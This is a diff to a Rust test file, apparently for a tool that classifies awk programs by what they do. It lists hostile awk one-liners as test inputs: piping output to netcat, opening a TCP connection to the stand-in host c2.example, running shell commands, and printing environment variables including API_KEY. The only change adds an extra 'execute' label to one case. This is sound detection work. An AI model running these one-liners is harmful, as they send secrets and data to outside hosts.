@@ -120,7 +120,7 @@ fn runs() {
             ("BEGIN { x = \"date\" | getline }", &["execute"]),
             ("BEGIN { print \"x\" |& \"nc h 1\" }", &["execute"]),
             ("{ print (\"id\" | getline) }", &["shell id"]),
-            ("BEGIN { s = \"/inet/tcp/0/c2.example/80\"; print |& s }", &["send c2.example", "execute"]),
+            ("BEGIN { s = \"/inet/tcp/0/c2.example/80\"; print |& s }", &["send c2.example", "execute", "execute"]),
             ("BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }", &["reveal environment"]),
             ("BEGIN { print ENVIRON[\"API_KEY\"] }", &["reveal variable API_KEY"]),
             ("BEGIN { print ENVIRON[x] }", &["reveal environment"]),
